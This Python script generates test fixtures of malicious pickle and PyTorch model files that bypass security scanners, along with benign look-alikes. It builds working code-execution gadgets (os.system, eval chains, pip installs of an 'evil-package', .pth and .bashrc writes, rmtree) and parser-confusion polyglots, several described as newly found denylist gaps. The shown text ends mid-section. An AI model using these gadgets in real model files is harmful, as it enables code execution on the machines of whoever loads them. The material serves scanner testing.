#!/usr/bin/env python3
"""Generate a corpus of pickle-model-scanner bypass samples (and benign look-alikes).

Standard library only. Pickles are assembled from hand-written opcode bytes; nothing
is ever unpickled, imported from a sample or executed. Every payload is harmless
(`echo pwned`, `id`), but the files ARE real exploits for the loaders named in
index.tsv: never load them outside a sandbox.

Usage: python3 make_bypass_fixtures.py OUTDIR

Output:
  OUTDIR/malicious/<technique>.<ext>   one file per technique
  OUTDIR/benign/<name>.<ext>           realistic clean look-alikes
  OUTDIR/index.tsv                     technique, loader, source/advisory

Used by crates/mlsec-model-scan/tests/it/fixtures.rs: every malicious file must be
flagged at high or above, no benign file at medium or above.
"""

import base64
import bz2
import gzip
import io
import lzma
import os
import shutil
import struct
import zlib

import sys

ROOT = sys.argv[1] if len(sys.argv) > 1 else "/tmp/bypass"
OUT = ROOT
MAL = os.path.join(OUT, "malicious")
BEN = os.path.join(OUT, "benign")
CMD = "echo pwned"
PYCODE = "__import__('os').system('echo pwned')"

INDEX = []


# --------------------------------------------------------------------------- opcodes
MARK, STOP, POP, TUPLE, REDUCE, BUILD = b"(", b".", b"0", b"t", b"R", b"b"
EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST = b")", b"}", b"]"
SETITEM, SETITEMS, APPEND, APPENDS = b"s", b"u", b"a", b"e"
NONE, NEWTRUE, NEWFALSE = b"N", b"\x88", b"\x89"
T1, T2, T3 = b"\x85", b"\x86", b"\x87"
NEWOBJ, STACK_GLOBAL, MEMOIZE = b"\x81", b"\x93", b"\x94"
BINPERSID = b"Q"


def proto(n):
    return b"\x80" + bytes([n])


def glob(m, n):
    """GLOBAL (protocol 0+) opcode."""
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def u(s):
    """A str: SHORT_BINUNICODE or BINUNICODE."""
    b = s.encode("utf-8")
    if len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def xu(s):
    """A str with BINUNICODE (protocol 1+, 'X')."""
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def by(b):
    """bytes: SHORT_BINBYTES or BINBYTES (protocol 3)."""
    if len(b) < 256:
        return b"C" + bytes([len(b)]) + b
    return b"B" + struct.pack("<I", len(b)) + b


def sg(m, n):
    """STACK_GLOBAL with literal operands (protocol 4)."""
    return u(m) + u(n) + STACK_GLOBAL


def K(n):
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if 0 <= n < 65536:
        return b"M" + struct.pack("<H", n)
    return b"J" + struct.pack("<i", n)


def tup(*items):
    return MARK + b"".join(items) + TUPLE


def call(fn, *args):
    """fn(*args) via REDUCE."""
    return fn + tup(*args) + REDUCE


def lst(*items):
    return EMPTY_LIST + (MARK + b"".join(items) + APPENDS if items else b"")


def dct(*pairs):
    body = b"".join(k + v for k, v in pairs)
    return EMPTY_DICT + (MARK + body + SETITEMS if pairs else b"")


def system_call_p0(cmd=CMD):
    """posix.system(cmd), protocol 0 only."""
    return glob("posix", "system") + MARK + b"S'" + cmd.encode() + b"'\n" + TUPLE + REDUCE


def system_call_p4(cmd=CMD, mod="posix"):
    return call(sg(mod, "system"), u(cmd))


# --------------------------------------------------------------------------- writers
def write(kind, name, data, loader, source, note=""):
    d = MAL if kind == "mal" else BEN
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)
    INDEX.append((kind, name, loader, source, note))


def mal(name, data, loader, source, note=""):
    write("mal", name, data, loader, source, note)


def ben(name, data, note=""):
    write("ben", name, data, "-", "benign look-alike", note)


# --------------------------------------------------------------------------- zip
def zip_build(entries, prefix=b"", comment=b"", total_override=None):
    """entries: dicts with name, data and optional method (0/8), flags, local_name,
    local_flags, crc, extra, made_by. Offsets are relative to the zip start (a
    `cat junk a.zip` style prefix leaves them unadjusted)."""
    out = bytearray()
    cd = bytearray()
    for e in entries:
        name = e["name"].encode() if isinstance(e["name"], str) else e["name"]
        lname = e.get("local_name", name)
        lname = lname.encode() if isinstance(lname, str) else lname
        data = e["data"]
        method = e.get("method", 0)
        if method == 8:
            co = zlib.compressobj(6, zlib.DEFLATED, -15)
            comp = co.compress(data) + co.flush()
        else:
            comp = data
        crc = e.get("crc", zlib.crc32(data))
        flags = e.get("flags", 0)
        lflags = e.get("local_flags", flags)
        extra = e.get("extra", b"")
        off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, lflags, method, 0, 0x21, crc,
                           len(comp), len(data), len(lname), len(extra))
        out += lname + extra + comp
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, e.get("made_by", 0x031E), 20, flags,
                          method, 0, 0x21, crc, len(comp), len(data), len(name), 0, 0, 0, 0,
                          (0o100644 << 16), off)
        cd += name
    cd_off = len(out)
    n = total_override if total_override is not None else len(entries)
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(cd), cd_off, len(comment)) + comment
    return prefix + bytes(out) + bytes(cd) + eocd


# --------------------------------------------------------------------------- torch
TORCH_MAGIC_PICKLE = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
TORCH_PROTO_PICKLE = b"\x80\x02M\xe9\x03."
TORCH_SYSINFO_PICKLE = (
    b"\x80\x02}q\x00(X\x10\x00\x00\x00protocol_versionq\x01M\xe9\x03X\r\x00\x00\x00little_endianq\x02\x88"
    b"X\n\x00\x00\x00type_sizesq\x03}q\x04(X\x05\x00\x00\x00shortq\x05K\x02X\x03\x00\x00\x00intq\x06K\x04"
    b"X\x04\x00\x00\x00longq\x07K\x04uu."
)


def torch_state_dict_pickle(key="0", legacy=False):
    """What torch.save({'weight': tensor(4)}) writes into data.pkl (protocol 2)."""
    pid = (xu("storage") + glob("torch", "FloatStorage") + xu(key) + xu("cpu") + K(4)
           + (NONE if legacy else b""))
    return (
        proto(2) + b"}q\x00" + xu("weight") + b"q\x01"
        + glob("torch._utils", "_rebuild_tensor_v2") + b"q\x02"
        + MARK + MARK + pid + TUPLE + b"q\x03" + BINPERSID
        + K(0) + K(4) + T1 + K(1) + T1 + NEWFALSE
        + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
        + TUPLE + REDUCE + b"q\x04" + SETITEM + STOP
    )


def torch_zip(datapkl, archive="archive", extra=(), pkl_name=None, **zipkw):
    ents = [
        {"name": f"{archive}/data.pkl" if pkl_name is None else pkl_name, "data": datapkl},
        {"name": f"{archive}/byteorder", "data": b"little"},
        {"name": f"{archive}/data/0", "data": struct.pack("<4f", 1, 2, 3, 4)},
        {"name": f"{archive}/version", "data": b"3\n"},
        {"name": f"{archive}/.data/serialization_id", "data": b"1234567890123456789012345678901234567890"},
    ]
    ents += list(extra)
    return zip_build(ents, **zipkw)


def torch_legacy(main_pickle, keys_pickle=b"\x80\x02]q\x00X\x0e\x00\x00\x0094000000000000q\x01a.",
                 storage=struct.pack("<q4f", 4, 1, 2, 3, 4)):
    return TORCH_MAGIC_PICKLE + TORCH_PROTO_PICKLE + TORCH_SYSINFO_PICKLE + main_pickle + keys_pickle + storage


# --------------------------------------------------------------------------- tar
def tar_header(name, size, typeflag=b"0", magic=b"ustar\x0000", extra_fields=None):
    h = bytearray(512)
    nb = name.encode()
    h[0:len(nb)] = nb
    h[100:108] = b"0000644\x00"
    h[108:116] = b"0001750\x00"
    h[116:124] = b"0001750\x00"
    h[124:136] = b"%011o\x00" % size
    h[136:148] = b"14000000000\x00"
    h[156:157] = typeflag
    if magic:
        h[257:257 + len(magic)] = magic
    if extra_fields:
        for off, val in extra_fields.items():
            h[off:off + len(val)] = val
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\x00 " % sum(h)
    return bytes(h)


def pad512(b):
    return b + b"\x00" * (-len(b) % 512)


def tar_member(name, data, typeflag=b"0", size=None, magic=b"ustar\x0000"):
    return tar_header(name, len(data) if size is None else size, typeflag, magic) + pad512(data)


def pax_record(key, value):
    body = f" {key}={value}\n"
    n = len(body) + 1
    while len(str(n)) + len(body) != n:
        n = len(str(n)) + len(body)
    return f"{n}{body}".encode()


def tar_end():
    return b"\x00" * 1024


# --------------------------------------------------------------------------- 7z
def sz_num(v):
    for n in range(9):
        if n == 8 or v < (1 << (7 * (n + 1))):
            break
    if n == 8:
        return b"\xff" + v.to_bytes(8, "little")
    first = ((0xFF << (8 - n)) & 0xFF) | (v >> (8 * n))
    return bytes([first]) + (v & ((1 << (8 * n)) - 1)).to_bytes(n, "little")


def sevenzip(files, coder="copy", dict_size=1 << 20, declared_dict=None):
    """A 7z archive with one folder (one coder) per file: Copy or LZMA."""
    packed, folders, sizes, crcs = b"", b"", b"", b""
    for _name, data in files:
        if coder == "copy":
            p = data
            folders += sz_num(1) + b"\x01\x00"
        else:
            p = lzma.compress(data, format=lzma.FORMAT_RAW,
                              filters=[{"id": lzma.FILTER_LZMA1, "dict_size": dict_size,
                                        "lc": 3, "lp": 0, "pb": 2}])
            props = bytes([0x5D]) + struct.pack("<I", declared_dict or dict_size)
            folders += sz_num(1) + b"\x23\x03\x01\x01" + sz_num(5) + props
        packed += p
        sizes += sz_num(len(p))
        crcs += struct.pack("<I", zlib.crc32(data))
    n = len(files)
    unpack = b"".join(sz_num(len(d)) for _, d in files)
    names = b"".join(nm.encode("utf-16-le") + b"\x00\x00" for nm, _ in files)
    hdr = (b"\x01\x04"
           + b"\x06" + sz_num(0) + sz_num(n) + b"\x09" + sizes + b"\x00"
           + b"\x07\x0b" + sz_num(n) + b"\x00" + folders + b"\x0c" + unpack + b"\x00"
           + b"\x08\x0a\x01" + crcs + b"\x00"
           + b"\x00"
           + b"\x05" + sz_num(n) + b"\x11" + sz_num(1 + len(names)) + b"\x00" + names + b"\x00"
           + b"\x00")
    start = struct.pack("<QQI", len(packed), len(hdr), zlib.crc32(hdr))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + packed + hdr


# --------------------------------------------------------------------------- lz4 frame (stored blocks)
def lz4_frame(data):
    """An LZ4 frame of stored blocks (the writer shared with make_fixtures.py)."""
    sys.dont_write_bytecode = True   # keep the source tree clean
    from make_fixtures import lz4_frame as frame

    return frame(data, compress_blocks=False)


# --------------------------------------------------------------------------- numpy
def npy(header_dict_text, body, version=(1, 0)):
    hb = header_dict_text.encode("latin1")
    pre = 10 if version == (1, 0) else 12
    pad = -(pre + len(hb) + 1) % 64
    hb = hb + b" " * pad + b"\n"
    lenf = struct.pack("<H", len(hb)) if version == (1, 0) else struct.pack("<I", len(hb))
    return b"\x93NUMPY" + bytes(version) + lenf + hb + body


def ndarray_pickle_f8(values, proto_n=3):
    """numpy.ndarray float64 pickled the way numpy does it (protocol 3)."""
    raw = struct.pack("<%dd" % len(values), *values)
    return (
        proto(proto_n) + glob("numpy.core.multiarray", "_reconstruct")
        + glob("numpy", "ndarray") + K(0) + T1 + by(b"b") + T3 + REDUCE
        + MARK + K(1) + K(len(values)) + T1
        + glob("numpy", "dtype") + xu("f8") + NEWFALSE + NEWTRUE + T3 + REDUCE
        + MARK + K(3) + xu("<") + NONE + NONE + NONE + b"J\xff\xff\xff\xff" + b"J\xff\xff\xff\xff" + K(0) + TUPLE + BUILD
        + NEWFALSE + by(raw) + TUPLE + BUILD + STOP
    )


# =========================================================================== MALICIOUS
def gen_malicious():
    P0 = system_call_p0() + STOP
    P4 = proto(4) + system_call_p4() + STOP

    # ---- A. dangerous callables (many absent from typical denylists) ----------------
    mal("posix_system_proto0.pkl", P0, "pickle.load", "classic; picklescan malicious2_v0")
    mal("nt_system.pkl", glob("nt", "system") + MARK + b"S'" + CMD.encode() + b"'\n" + TUPLE + REDUCE + STOP,
        "pickle.load (Windows)", "picklescan os alias list; modelaudit nt_alias_attack")
    mal("pty_spawn.pkl", proto(4) + call(sg("pty", "spawn"), u("id")) + STOP,
        "pickle.load", "GHSA-vqmv-47xg-9wpr")
    inst = lambda m, c: call(sg(m, c))  # noqa: E731  zero-arg instance
    mal("code_InteractiveInterpreter_runsource.pkl",
        proto(4) + call(sg("code", "InteractiveInterpreter.runsource"), inst("code", "InteractiveInterpreter"), u(PYCODE)) + STOP,
        "pickle.load", "GHSA-cj3c-v495-4xqh")
    mal("timeit_timeit.pkl", proto(4) + call(sg("timeit", "timeit"), u("pass"), u(PYCODE)) + STOP,
        "pickle.load", "GHSA-v7x6-rv5q-mhwc; picklescan malicious21")
    mal("cProfile_run.pkl", proto(4) + call(sg("cProfile", "run"), u(PYCODE)) + STOP,
        "pickle.load", "GHSA-49gj-c84q-6qm9; fickling GHSA-p523-jq9w-64x9")
    mal("profile_Profile_run.pkl",
        proto(4) + call(sg("profile", "Profile.run"), inst("profile", "Profile"), u(PYCODE)) + STOP,
        "pickle.load", "GHSA-x696-vm39-cp64")
    mal("trace_Trace_runctx.pkl",
        proto(4) + call(sg("trace", "Trace.runctx"), inst("trace", "Trace"), u(PYCODE), EMPTY_DICT, EMPTY_DICT) + STOP,
        "pickle.load", "GHSA-g344-hcph-8vgg")
    mal("bdb_Bdb_run.pkl", proto(4) + call(sg("bdb", "Bdb.run"), inst("bdb", "Bdb"), u(PYCODE)) + STOP,
        "pickle.load", "picklescan malicious15")
    mal("pdb_Pdb_run.pkl", proto(4) + call(sg("pdb", "Pdb.run"), inst("pdb", "Pdb"), u(PYCODE)) + STOP,
        "pickle.load", "modelaudit bypass_pocs poc27")
    mal("idlelib_pyshell_runcode.pkl",
        proto(4) + call(sg("idlelib.pyshell", "ModifiedInterpreter.runcode"), NONE, u(PYCODE)) + STOP,
        "pickle.load", "GHSA-3gf5-cxq9-w223")
    mal("lib2to3_grammar_loads.pkl",
        proto(4) + call(sg("lib2to3.pgen2.grammar", "Grammar.loads"), inst("lib2to3.pgen2.grammar", "Grammar"),
                        by(P0)) + STOP,
        "pickle.load (<=3.12)", "GHSA-f54q-57x4-jg88")
    mal("distutils_file_util_write_file.pkl",
        proto(4) + call(sg("distutils.file_util", "write_file"), u("/tmp/mlsec_pwned.pth"),
                        lst(u("import os; os.system('echo pwned')"))) + STOP,
        "pickle.load (<=3.11)", "GHSA-m273-6v24-x4m4 (file write -> .pth)")
    mal("asyncio_subprocess_shell.pkl",
        proto(4) + call(sg("asyncio.unix_events", "_UnixSubprocessTransport._start"), NONE, u(CMD), NEWTRUE,
                        NONE, NONE, NONE, K(0)) + STOP,
        "pickle.load", "GHSA-jgw4-cr84-mqxg / GHSA-q77w-mwjj-7mqx (JFrog subclass import)")
    mal("_posixsubprocess_fork_exec.pkl",
        proto(4) + call(sg("_posixsubprocess", "fork_exec"), lst(by(b"/bin/sh"), by(b"-c"), by(CMD.encode())),
                        lst(by(b"/bin/sh")), NEWTRUE, EMPTY_TUPLE, NONE, NONE,
                        b"J\xff\xff\xff\xff" * 6, K(3), K(4), NEWFALSE, NEWFALSE, NONE, NONE, NONE, NONE,
                        b"J\xff\xff\xff\xff", NONE, NEWFALSE) + STOP,
        "pickle.load", "brief list; common denylist gap")
    mal("multiprocessing_util_spawnv_passfds.pkl",
        proto(4) + call(sg("multiprocessing.util", "spawnv_passfds"), by(b"/bin/sh"),
                        lst(by(b"/bin/sh"), by(b"-c"), by(CMD.encode())), EMPTY_TUPLE) + STOP,
        "pickle.load", "brief list; common denylist gap")
    mal("ensurepip_run_pip.pkl",
        proto(4) + call(sg("ensurepip", "_run_pip"), lst(u("install"), u("evil-package"))) + STOP,
        "pickle.load", "GHSA-xp4f-hrf8-rxw7")
    mal("venv_create.pkl",
        proto(4) + call(sg("venv", "create"), u("/tmp/mlsec_venv"), NEWFALSE, NEWFALSE, NEWFALSE, NEWTRUE) + STOP,
        "pickle.load", "picklescan malicious20")
    mal("webbrowser_open.pkl", proto(4) + call(sg("webbrowser", "open"), u("http://127.0.0.1:9/pwned")) + STOP,
        "pickle.load", "brief list")
    mal("shutil_rmtree.pkl", proto(4) + call(sg("shutil", "rmtree"), u("/tmp/mlsec-nonexistent-dir")) + STOP,
        "pickle.load", "destructive gadget")
    mal("pydoc_pipepager.pkl", proto(4) + call(sg("pydoc", "pipepager"), u("x"), u(CMD)) + STOP,
        "pickle.load", "picklescan malicious18")
    mal("pip_main.pkl", proto(4) + call(sg("pip", "main"), lst(u("install"), u("evil-package"))) + STOP,
        "pickle.load", "CVE-2025-1716 (Sonatype)")
    mal("numpy_testing_runstring.pkl",
        proto(4) + call(sg("numpy.testing._private.utils", "runstring"), u(PYCODE), EMPTY_DICT) + STOP,
        "pickle.load", "picklescan malicious22")
    mal("torch_hub_load.pkl",
        proto(4) + call(sg("torch.hub", "load"), u("attacker/repo"), u("model")) + STOP,
        "torch.load(weights_only=False)", "brief list; hubconf.py execution")
    mal("torch_cpp_extension_load_inline.pkl",
        proto(4) + call(sg("torch.utils.cpp_extension", "load_inline"), u("x"),
                        u('#include <cstdlib>\nstatic int x = system("echo pwned");')) + STOP,
        "torch.load(weights_only=False)", "brief list")
    mal("torch_jit_execWrapper.pkl",
        proto(4) + call(sg("torch.jit.unsupported_tensor_ops", "execWrapper"), u(PYCODE), EMPTY_DICT, EMPTY_DICT) + STOP,
        "torch.load(weights_only=False)", "GHSA-vr7h-p6mm-wpmh")
    mal("torch_serialization_load_partial.pkl",
        proto(4) + call(call(sg("functools", "partial"), sg("torch.serialization", "load"), u("/tmp/evil.pt"))) + STOP,
        "torch.load(weights_only=False)", "picklescan malicious19")
    mal("torch_storage_load_from_bytes_nested.pkl",
        proto(4) + call(sg("torch.storage", "_load_from_bytes"), by(P0)) + STOP,
        "torch.load(weights_only=False)", "brief list (nested pickle)")
    mal("functools_partial_eval.pkl",
        proto(4) + call(call(sg("functools", "partial"), sg("builtins", "eval"), u(PYCODE))) + STOP,
        "pickle.load", "picklescan malicious19 pattern")
    imp_os = call(sg("builtins", "__import__"), u("os"))
    mal("operator_methodcaller.pkl",
        proto(4) + call(call(sg("_operator", "methodcaller"), u("system"), u(CMD)), imp_os) + STOP,
        "pickle.load", "GHSA-955r-x9j8-7rhh / GHSA-84r2-jw7c-4r5q")
    mal("builtins_getattr_chain.pkl",
        proto(4) + call(call(sg("builtins", "getattr"), imp_os, u("system")), u(CMD)) + STOP,
        "pickle.load", "classic getattr chain (malicious0)")
    mal("sys_modules_lookup.pkl",
        proto(4) + call(call(call(sg("_operator", "attrgetter"), u("system")),
                             call(sg("_operator", "getitem"), sg("sys", "modules"), u("posix"))), u(CMD)) + STOP,
        "pickle.load", "brief list (sys.modules)")
    rot = call(sg("_codecs", "encode"), u("cbfvk"), u("rot13"))  # -> 'posix' at load time
    mal("stack_global_computed_module.pkl",
        proto(4) + call(rot + u("system") + STACK_GLOBAL, u(CMD)) + STOP,
        "pickle.load", "computed STACK_GLOBAL operand (allowlisted _codecs.encode rot13)")
    mal("builtins_import.pkl",
        proto(4) + call(call(sg("_operator", "attrgetter"), u("system")), imp_os) + STOP,
        "pickle.load", "GHSA-46h3-79wf-xr6c")
    mal("importlib_import_module.pkl",
        proto(4) + call(call(sg("builtins", "getattr"), call(sg("importlib", "import_module"), u("os")), u("system")),
                        u(CMD)) + STOP,
        "pickle.load", "picklescan#66 / PR#74")
    mal("build_state_injection_module.pkl",
        proto(4) + sg("torch._utils", "_rebuild_tensor_v2") + POP
        + sg("torch", "_utils") + dct((u("_rebuild_tensor_v2"), sg("builtins", "eval"))) + BUILD + POP
        + call(sg("torch._utils", "_rebuild_tensor_v2"), u(PYCODE)) + STOP,
        "torch.load(weights_only=False)", "picklescan sys_module_override_sploit")
    mal("build_slotstate_setattr_class.pkl",
        proto(4) + sg("collections", "Counter") + tup(NONE, dct((u("most_common"), sg("posix", "system"))))
        + BUILD + STOP,
        "pickle.load", "BUILD (state, slotstate) -> setattr on an imported class")
    mal("inst_opcode.pkl", MARK + b"S'" + CMD.encode() + b"'\n" + b"iposix\nsystem\n" + STOP,
        "pickle.load", "INST opcode (protocol 0)")
    mal("obj_opcode.pkl", MARK + glob("posix", "system") + b"S'" + CMD.encode() + b"'\n" + b"o" + STOP,
        "pickle.load", "OBJ opcode (protocol 1)")
    mal("ext1_copyreg_registry.pkl", proto(2) + b"\x82\x01" + tup(u(CMD)) + REDUCE + STOP,
        "pickle.load in a process with copyreg.add_extension", "EXT1 (modelaudit #623)")
    mal("ext4_copyreg_registry.pkl", proto(2) + b"\x84\x00\x00\x01\x00" + tup(u(CMD)) + REDUCE + STOP,
        "pickle.load in a process with copyreg.add_extension", "EXT4")
    mal("unicode_escaped_module_proto0.pkl",
        b"V\\u0070osix\nV\\u0073ystem\n" + STACK_GLOBAL + MARK + b"Vecho pwned\n" + TUPLE + REDUCE + STOP,
        "pickle.load", "raw-unicode-escape UNICODE operands")
    mal("string_octal_escape_module.pkl",
        b"S'\\560osix'\nS'\\x73ystem'\n" + STACK_GLOBAL + MARK + b"S'echo pwned'\n" + TUPLE + REDUCE + STOP,
        "pickle.load (3.11: \\560 wraps to 'p')", "STRING escapes (octal > 0o377, \\x)")
    mal("global_nul_byte_module.pkl", glob("posix\x00ignored", "system") + MARK + b"S'echo pwned'\n" + TUPLE + REDUCE + STOP,
        "loaders that truncate at NUL", "NUL-truncation (scanner rule)")
    mal("compat_builtin_eval_proto2.pkl", proto(2) + call(glob("__builtin__", "eval"), xu(PYCODE)) + STOP,
        "pickle.load", "_compat_pickle mapping (malicious1_v0)")
    mal("dotted_builtins_dict_get.pkl",
        proto(4) + call(call(sg("builtins", "__dict__.get"), u("eval")), u(PYCODE)) + STOP,
        "pickle.load", "dotted name into builtins.__dict__")
    mal("random_os_system_dotted.pkl", proto(4) + call(sg("random", "_os.system"), u(CMD)) + STOP,
        "pickle.load", "dotted name random._os.system")
    mal("pickle_loads_nested_base64.pkl",
        proto(4) + call(sg("pickle", "loads"), call(sg("base64", "b64decode"), u(base64.b64encode(P0).decode()))) + STOP,
        "pickle.load", "nested base64 (modelaudit nested_pickle_base64)")
    mal("memo_memoize_after_put.pkl",
        proto(4) + u("a") + b"q\x05" + POP + u("posix") + MEMOIZE + u("system") + MEMOIZE + POP + POP
        + b"h\x01h\x02" + STACK_GLOBAL + tup(u(CMD)) + REDUCE + STOP,
        "pickle.load", "memo index confusion (picklescan#22 CTF, keyerror-exploit)")
    mal("copyreg_reconstructor_popen.pkl",
        proto(2) + call(glob("copyreg", "_reconstructor"), glob("subprocess", "Popen"), glob("subprocess", "Popen"),
                        lst(xu("/bin/sh"), xu("-c"), xu(CMD))) + STOP,
        "pickle.load", "allowlisted copyreg._reconstructor instantiating a denied class")
    mal("frame_straddle_proto5.pkl",
        proto(5) + b"\x95" + struct.pack("<Q", 3) + system_call_p4() + STOP,
        "pickle.load", "FRAME length lies (opcodes straddle frames)")

    # ---- B. gadgets that are NOT on this scanner's denylist -------------------------
    mal("bootsubprocess_check_output_direct.pkl",
        proto(4) + call(sg("_bootsubprocess", "check_output"), lst(u("echo"), u("pwned"))) + STOP,
        "pickle.load (CPython <=3.11)", "own analysis: _bootsubprocess.check_output -> os.system")
    mal("typing_get_type_hints_eval_direct.pkl",
        proto(4) + call(sg("typing", "get_type_hints"),
                        call(sg("collections", "Counter")) + dct((u("__annotations__"), dct((u("x"), u(PYCODE))))) + BUILD)
        + STOP,
        "pickle.load", "own analysis: typing ForwardRef eval of __annotations__")
    mal("dataclasses_create_fn_exec_direct.pkl",
        proto(4) + call(sg("dataclasses", "_create_fn"), u("f"), lst(u("x=" + PYCODE)), lst(u("pass"))) + STOP,
        "pickle.load (<=3.12)", "own analysis: dataclasses._create_fn exec")
    mal("frozen_importlib_load_spec_direct.pkl",
        proto(4) + call(sg("_frozen_importlib", "_load"),
                        call(sg("_frozen_importlib_external", "spec_from_file_location"), u("evil"), u("/tmp/evil.py")))
        + STOP,
        "pickle.load", "own analysis: importlib alias _frozen_importlib (executes a .py file)")
    mal("numpy_savetxt_write_pth_direct.pkl",
        proto(4) + call(sg("numpy", "savetxt"), u("/usr/lib/python3/dist-packages/zz_mlsec.pth"),
                        lst(u("import os; os.system('echo pwned')")), u("%s")) + STOP,
        "pickle.load", "own analysis: numpy.savetxt file write -> .pth code execution (Lyutoon picklescan#42 class)")
    mal("torch_utils_import_dotted_name.pkl",
        proto(4) + call(call(sg("torch._utils", "_import_dotted_name"), u("posix.system")), u(CMD)) + STOP,
        "torch.load(weights_only=False)", "own analysis: string-resolved callable (cf. GHSA-vvpj-8cmc-gx39 pkgutil.resolve_name)")
    mal("pandas_hdfstore_truncate.pkl",
        proto(2) + call(glob("pandas", "HDFStore"), xu("/home/victim/.bashrc"), xu("w")) + STOP,
        "pickle.load with pandas+tables", "own analysis: class-name heuristic allows pandas.<Upper>; HDFStore mode 'w' truncates")
    mal("import_side_effect_antigravity.pkl", proto(2) + glob("antigravity", "geohash") + STOP,
        "pickle.load", "import-time side effect (webbrowser.open on import)")

    # allowlisted invokers: the dangerous callable is only an argument, never REDUCEd
    mal("invoker_torch_rebuild_from_type_v2_typing_eval.pkl",
        proto(2) + call(glob("torch._tensor", "_rebuild_from_type_v2"),
                        glob("typing", "get_type_hints"), glob("builtins", "dict"),
                        tup(call(glob("collections", "Counter")) + dct((xu("__annotations__"), dct((xu("x"), xu(PYCODE)))))
                            + BUILD),
                        EMPTY_DICT) + STOP,
        "torch.load(weights_only=False) / pickle.load",
        "own analysis: allowlisted torch._tensor._rebuild_from_type_v2 calls func(*args)")
    mal("invoker_torch_rebuild_from_type_v2_create_fn.pkl",
        proto(2) + call(glob("torch._tensor", "_rebuild_from_type_v2"),
                        glob("dataclasses", "_create_fn"), glob("builtins", "object"),
                        tup(xu("f"), lst(xu("x=" + PYCODE)), lst(xu("pass"))), EMPTY_DICT) + STOP,
        "torch.load(weights_only=False) / pickle.load", "own analysis: _rebuild_from_type_v2 + dataclasses exec")
    mal("invoker_numpy_randomstate_ctor.pkl",
        proto(2) + call(glob("numpy.random._pickle", "__randomstate_ctor"),
                        lst(xu("echo"), xu("pwned")), glob("_bootsubprocess", "check_output")) + STOP,
        "pickle.load / joblib.load (numpy>=1.25)",
        "own analysis: allowlisted __randomstate_ctor(name, ctor) calls ctor(name)")
    mal("invoker_numpy_generator_ctor_testcapi.pkl",
        proto(2) + call(glob("numpy.random._pickle", "__generator_ctor"),
                        xu(PYCODE), glob("_testcapi", "run_in_subinterp")) + STOP,
        "pickle.load (CPython built with _testcapi)", "own analysis: __generator_ctor + _testcapi.run_in_subinterp")
    mal("invoker_enum_functional_init.pkl",
        proto(2) + call(glob("enum", "Enum"), xu("X"),
                        lst(tup(xu("__init__"), glob("_testcapi", "run_in_subinterp")), tup(xu("A"), tup(xu(PYCODE))))) + STOP,
        "pickle.load", "own analysis: allowlisted enum.Enum functional API runs member __init__")
    mal("invoker_sklearn_parallel.pkl",
        proto(2) + call(call(glob("sklearn.utils.parallel", "Parallel"), K(1)),
                        lst(tup(glob("_bootsubprocess", "check_output"), tup(lst(xu("id"))), EMPTY_DICT))) + STOP,
        "joblib.load / pickle.load with scikit-learn",
        "own analysis: class-name heuristic allows sklearn.*.Parallel; calling it runs (func,args,kw)")

    # ---- C. parser / dispatch divergences ------------------------------------------
    mal("first_opcode_long1.pkl", b"\x8a\x01\x00" + POP + P0,
        "pickle.load", "own analysis: first opcode LONG1 not in looks_like_pickle")
    mal("first_opcode_empty_set.pkl", b"\x8f" + POP + P4,
        "pickle.load", "own analysis: first opcode EMPTY_SET")
    mal("first_opcode_binbytes8.pkl", b"\x8e" + struct.pack("<Q", 4) + b"pad!" + POP + P0,
        "pickle.load", "own analysis: first opcode BINBYTES8")
    mal("first_opcode_bytearray8_torch.pt",
        torch_zip(b"\x96" + struct.pack("<Q", 1) + b"x" + POP + P0),
        "torch.load(weights_only=False)", "own analysis: data.pkl starting with BYTEARRAY8")
    mal("first_opcode_long4_in_npz_like_zip.zip",
        zip_build([{"name": "model.pkl", "data": b"\x8b\x01\x00\x00\x00\x01" + POP + P0}]),
        "pickle.load of the extracted member", "own analysis: LONG4 first opcode inside zip")
    filler = bytearray(600)  # file must be >= 512 bytes for the tar sniffing
    filler[250:256] = b"ustar\x00"
    ustar_pkl = proto(3) + b"B" + struct.pack("<I", len(filler)) + bytes(filler) + POP + system_call_p0() + STOP
    assert ustar_pkl[257:263] == b"ustar\x00"
    mal("pickle_with_ustar_at_257.pkl", ustar_pkl,
        "pickle.load", "own analysis: content sniffing picks tar (ustar magic at 257) before pickle")
    mal("torch_zip_datapkl_ustar_at_257.pt", torch_zip(ustar_pkl),
        "torch.load(weights_only=False)", "own analysis: same, inside a PyTorch zip")
    bz = b"B" + b"Zh1\x00"
    blen = struct.unpack("<I", bz[1:5])[0]
    mal("bzip2_magic_pickle_polyglot.pkl", bz + b"\x00" * blen + POP + P0,
        "pickle.load", "own analysis: BINBYTES length bytes spell 'BZh1' -> sniffed as bzip2, decode fails")
    mal("stacked_second_pickle_nonstandard_start.pkl",
        proto(2) + b"}q\x00." + b"\x8f" + POP + sg("posix", "system") + tup(u("id")) + REDUCE + STOP,
        "loader that calls pickle.load twice (e.g. legacy torch-style readers)",
        "own analysis: 2nd pickle starts with EMPTY_SET, no PROTO/GLOBAL for hidden-pickle search")
    mal("legacy_torch_main_pickle_long1_start.pt",
        torch_legacy(b"\x8a\x01\x00" + POP + P0),
        "torch.load(weights_only=False) legacy path", "own analysis: legacy main pickle with non-standard first opcode")
    pid = lambda s: tup(xu("module"), xu(s), xu(""), xu("")) + BINPERSID  # noqa: E731
    mal("legacy_torch_persistent_module_strings.pt",
        torch_legacy(proto(2) + pid("posix") + pid("system") + STACK_GLOBAL + tup(xu(CMD)) + REDUCE + STOP),
        "torch.load(weights_only=False) legacy path",
        "own analysis: legacy persistent_load('module', x, '', '') returns x; STACK_GLOBAL on persistent strings")
    # joblib: wrapper built through copyreg._reconstructor; joblib still reads inline array data
